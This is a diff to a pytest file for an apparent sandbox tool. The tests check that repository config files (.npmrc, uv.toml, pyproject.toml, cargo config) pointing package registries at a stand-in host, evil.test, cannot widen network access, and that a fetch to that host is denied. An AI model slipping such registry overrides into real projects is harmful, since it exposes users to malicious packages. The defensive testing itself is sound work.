@@ -25,7 +25,7 @@ from net_servers import RecordingHTTPServer, TcpRecorder
 from gatekeeper.sandbox.net import NetworkSession
 from gatekeeper.sandbox.net.proxy import ProxyLimits
 
-from conftest import make_repo
+from conftest import gk, make_repo
 from helpers import run_json
 
 pytest_plugins = ["net_fixtures"]
@@ -330,3 +330,65 @@ def test_vsock_and_other_unisolated_families_fail_inside_a_run(
     assert results["socketpair_vsock"] == errno.EAFNOSUPPORT
     for name in ("unix", "inet", "inet6", "netlink", "socketpair_unix"):
         assert results[name] == "created", results
+
+
+# --- 5. files in the repository never widen the network policy ------------------------------------
+
+WIDENING = {
+    ".npmrc": "registry=http://evil.test/\nregistry=*.test\n@x:registry=http://evil.test/\n",
+    ".yarnrc.yml": "npmRegistryServer: http://evil.test/\n",
+    "uv.toml": 'index-url = "http://evil.test/simple"\n',
+    "pyproject.toml": '[tool.uv]\nindex-url = "http://evil.test/simple"\n'
+    '[[tool.poetry.source]]\nname = "x"\nurl = "http://evil.test/"\n',
+    ".cargo/config.toml": '[registries.x]\nindex = "sparse+http://evil.test/index/"\n',
+}
+
+
+def test_a_committed_npmrc_does_not_make_a_host_a_package_registry(
+    tmp_path: Path, start_session: SessionFactory
+) -> None:
+    project = tmp_path / "worktree"
+    for name, text in WIDENING.items():
+        (project / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / name).write_text(text)
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".npmrc").write_text("registry=*.test\n")  # not even the user's own file widens
+    session, _ = start_session(
+        {"package_registry": "allow", "arbitrary_web": "deny"},
+        project=project,
+        env={"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config")},
+    )
+    assert session.rules.registries == []
+    reply = exchange(session, b"GET http://evil.test/pkg HTTP/1.1\r\n\r\n")
+    assert reply.startswith(b"HTTP/1.1 403 ")
+    entry = session.recorder.entries[0]
+    assert (entry.host, entry.category, entry.decision) == ("evil.test", "arbitrary_web", "deny")
+
+
+def test_a_committed_npmrc_does_not_widen_a_real_run(
+    tmp_path: Path, key: Path, outer: IsolatedNet
+) -> None:
+    fetch = (
+        "import urllib.request, urllib.error\n"
+        "try:\n    urllib.request.urlopen('http://evil.test/pkg', timeout=5)\n"
+        "except urllib.error.HTTPError as e:\n    print('STATUS', e.code)\n"
+    )
+    repo = make_repo(
+        tmp_path / "r",
+        policy="network: {package_registry: allow, arbitrary_web: deny}\n",
+        files={**WIDENING, "fetch.py": fetch},
+    )
+    outer.assert_inside()
+    proc, data = run_json(repo, "python3", "fetch.py")
+    assert "STATUS 403" in proc.stderr, proc.stderr
+    shown = gk_receipt(repo, data["commit"])
+    assert [(n["host"], n["category"], n["decision"]) for n in shown["network"]] == [
+        ("evil.test", "arbitrary_web", "deny")
+    ]
+
+
+def gk_receipt(repo: Path, commit: str) -> dict:  # type: ignore[type-arg]
+    proc = gk("receipt", "show", "--repo", str(repo), "--json", commit)
+    assert proc.returncode == 0, proc.stderr
+    return json.loads(proc.stdout)[0]["statement"]["predicate"]
